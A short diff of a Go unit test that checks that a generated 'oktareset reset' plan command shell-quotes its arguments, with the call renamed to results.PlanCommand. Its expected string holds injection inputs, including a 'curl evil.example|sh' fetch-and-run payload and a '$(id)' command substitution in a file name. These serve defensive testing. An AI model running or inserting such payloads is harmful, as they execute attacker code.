@@ -231,7 +231,7 @@ func TestProposedPlanIsQuoted(t *testing.T) {
 		Counts: runner.Counts{runner.StatusWouldReset: 2},
 	}
 	want := `oktareset reset --confirm 'x:1;curl evil.example|sh #:2' '$(id).csv'`
-	if got := planCommand(&m, "$(id).csv"); got != want {
+	if got := results.PlanCommand(&m, "$(id).csv"); got != want {
 		t.Errorf("%s, want %s", got, want)
 	}
 }
